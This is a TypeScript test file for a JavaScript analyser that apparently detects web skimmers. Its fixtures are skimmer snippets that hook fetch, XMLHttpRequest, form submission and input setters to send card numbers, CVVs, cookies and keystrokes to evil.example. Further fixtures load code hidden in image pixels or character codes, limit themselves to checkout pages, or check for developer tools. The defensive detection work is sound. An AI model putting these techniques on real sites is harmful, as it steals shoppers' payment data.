// Unusual ways in which a program gets typed data, code, and environment facts.
import { describe, expect, it } from 'vitest'
import { factsOf, flows, look as lookAt } from './look.ts'

const evil = 'https://evil.example/g'

describe('typed data is recognized', () => {
  it.each([
    [
      'in what the page sends, where the program has put itself between',
      `var s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { navigator.sendBeacon("${evil}", b); return s.apply(this, arguments) }`,
      'form > beacon evil.example',
    ],
    [
      'in what the page fetches',
      `const f = window.fetch; window.fetch = function (url, init) { f("${evil}", { method: "POST", body: init && init.body }); return f(url, init) }`,
      'form > fetch evil.example',
    ],
    [
      'in a form that is sent by its own method',
      `var own = HTMLFormElement.prototype.submit; HTMLFormElement.prototype.submit = function () { navigator.sendBeacon("${evil}", new FormData(this)); own.call(this) }`,
      'form > beacon evil.example',
    ],
    [
      'in a field whose value the program has put itself before',
      `Object.defineProperty(HTMLInputElement.prototype, "value", { set: function (v) { new Image().src = "${evil}?" + v } })`,
      'form > image evil.example',
    ],
    [
      'in a cookie that it is kept in for a while',
      `function keep() { document.cookie = "seen=" + document.querySelector("#cvv").value } function hand() { new Image().src = "${evil}?" + document.cookie.split("seen=")[1] }
       document.forms[0].onchange = keep; setInterval(hand, 900)`,
      'card+cookie > image evil.example',
    ],
    [
      'in an attribute',
      `new Image().src = "${evil}?" + document.querySelector("#cc-number").getAttribute("value")`,
      'card > image evil.example',
    ],
    [
      'in the keys of the old event',
      `document.onkeypress = function () { new Image().src = "${evil}?" + window.event.keyCode }`,
      'keys > image evil.example',
    ],
    ["in Prototype's forms and requests", `new Ajax.Request("${evil}?" + Form.serialize($("checkout")))`, 'form > ajax evil.example'],
    [
      'where jQuery goes through fields',
      `jQuery("input, select").each(function (n, field) { if (jQuery(field).val()) jQuery.post("${evil}", { a: jQuery(field).val() }) })`,
      'value > ajax evil.example',
    ],
  ])('%s', (_name, text, flow) => {
    expect(flows(text)).toContain(flow)
  })

  it('and passing data to where the page itself sends it is not a flow', () => {
    expect(flows('const f = window.fetch; window.fetch = function (url, init) { console.log(url); return f(url, init) }')).toEqual([])
    expect(flows('var s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, b) }')).toEqual(
      [],
    )
  })
})

describe('every cookie at once', () => {
  const everyCookie = (text: string) => lookAt(text).findings.sources.some(({ what }) => what === 'every cookie')
  it('is distinguished from a single cookie cut out of them', () => {
    expect(everyCookie(`new Image().src = "${evil}?c=" + escape(document.cookie) + "&l=" + location.href`)).toBe(true)
    expect(everyCookie(`fetch("${evil}", { method: "POST", body: JSON.stringify({ c: document.cookie }) })`)).toBe(true)
    expect(everyCookie(`new Image().src = "${evil}?c=" + document.cookie.split("; ")[0]`)).toBe(false)
    expect(everyCookie(`var id = /id=(\\d+)/.exec(document.cookie); new Image().src = "${evil}?c=" + id[1]`)).toBe(false)
    expect(everyCookie(`if (document.cookie.indexOf("id") < 0) fetch("${evil}")`)).toBe(false)
  })
})

describe('code is recognized', () => {
  it('in the pixels of a picture', () => {
    const text = `var i = new Image(); i.onload = function () { var x = document.createElement("canvas").getContext("2d"); x.drawImage(i, 0, 0)
      var d = x.getImageData(0, 0, 9, 9).data, t = ""; for (var n = 3; n < d.length; n += 4) t += String.fromCharCode(d[n]); new Function(t)() }`
    const { facts, sources } = lookAt(text).findings
    expect(facts.flatMap((fact) => (fact.kind === 'runs-text' ? fact.sources.map((index) => sources[index]?.kind) : []))).toEqual([
      'picture',
    ])
  })

  it('if an object returns text computed from another', () => {
    expect(flows(`var o = {}; o.toString = Function('fetch("${evil}")'); var s = o + "."`)).toEqual([' > fetch evil.example'])
  })

  it('with its position if Function runs text built from codes', () => {
    const text = 'var go = 1; Function(String.fromCharCode(97, 40, 41))()'
    const [run] = factsOf(text, 'runs-text')
    expect(run).toMatchObject({ decoded: true, length: 3 })
    expect(text.slice(run?.place?.start, run?.place?.end)).toBe('Function(String.fromCharCode(97, 40, 41))')
  })

  it('and is not made up: a plain text, a timer with something unknown', () => {
    expect(factsOf('var g = Function("return this")()', 'runs-text')).toMatchObject([{ decoded: false }])
    expect(factsOf('export function wait(fn) { setTimeout(fn, 10) }', 'runs-text')).toEqual([])
  })

  it("that Prototype's elements and jQuery's markup bring in", () => {
    expect(flows(`document.body.appendChild(new Element("script", { src: "${evil}.js" }))`)).toEqual([' > script evil.example'])
    expect(flows(`$("<script>", { src: "${evil}.js" }).appendTo("head")`)).toEqual([' > script evil.example'])
  })
})

describe('a condition that a program tests', () => {
  it.each([
    ['a comparison', 'if (location.pathname.replace("/", "") == "checkoutonepage") start()'],
    ['match', 'if (location.href.match(/onepage|checkout/)) start()'],
    ['a list', 'if (["/checkout", "/onepage"].indexOf(location.pathname) > -1) start()'],
    ['a switch', 'switch (location.pathname) { case "/checkout": start() }'],
    ['a test that is turned round', 'if (!(location.pathname != "/checkout")) start()'],
  ])('is reported with its words: %s', (_name, text) => {
    expect(factsOf(text, 'gate').filter(({ on, test }) => on === 'address' && /checkout/.test(test))).not.toEqual([])
  })

  it('takes both branches if a list is asked for what only the page knows', () => {
    expect(flows(`if (["/pay"].includes(location.pathname)) fetch("${evil}")`)).toEqual([' > fetch evil.example'])
  })

  it('is not a check for developer tools if it only tests for a console or the page width', () => {
    const asked = (text: string) => factsOf(text, 'gate').map(({ on }) => on)
    expect(asked('if (window.console && window.innerWidth < 768) start()')).not.toContain('tools')
    expect(asked('if ($(".menu").outerWidth() > 160) fold()')).not.toContain('tools')
    expect(asked('if (window.outerHeight - window.innerHeight > 160) stop()')).toContain('tools')
  })
})

it('a host of this machine is a host', () => {
  expect(flows('fetch("http://localhost:9002/c")')).toEqual([' > fetch localhost'])
})

it('a list that is rotated until a sum is right is rotated within the budget', () => {
  const texts = Array.from({ length: 120 }, (_, index) => (index === 100 ? '42x' : index === 101 ? '7y' : `t${index}`))
  const text = `var l = ${JSON.stringify(texts)}; function at(i) { var s = l[i], n = 0; for (var j = 0; j < 300; j++) n += j; return s }
    for (;;) { try { var v = parseInt(at(0)) / 2 + -parseInt(at(1)) * (parseInt(at(2)) / 1 + 1) + parseInt(at(3)) / 3; if (v === 1) break; else if (parseInt(at(0)) === 42) break; else l.push(l.shift()) } catch (e) { l.push(l.shift()) } }
    fetch("https://" + l[20] + ".example/")`
  const { ended, steps } = lookAt(text)
  expect(ended).toBe(true)
  expect(steps).toBeLessThan(1_500_000)
  expect(flows(text)).toEqual([' > fetch t0.example'])
})

it.each([
  ['a table of letters', '"0123456789abcdef"[n >> 4]'],
  ['a list', '[7, 3, 9, 4][n & 3]'],
])('the result of %s on typed data stays marked as typed', (_name, looked) => {
  expect(flows(`var n = document.querySelector("#cvv").value.charCodeAt(0); fetch("${evil}?" + ${looked})`)).toEqual([
    'card > fetch evil.example',
  ])
})

it('an address in numeric character references is decoded from its markup', () => {
  const numbered = [...evil].map((one) => `&#${one.charCodeAt(0)};`).join('')
  expect(flows(`$.post($("<div />").html("${numbered}").text(), { a: $("#cvv").val() })`)).toEqual(['card > ajax evil.example'])
  expect(flows(`var d = document.createElement("textarea"); d.innerHTML = "${numbered}"; fetch(d.value)`)).toEqual([
    ' > fetch evil.example',
  ])
})
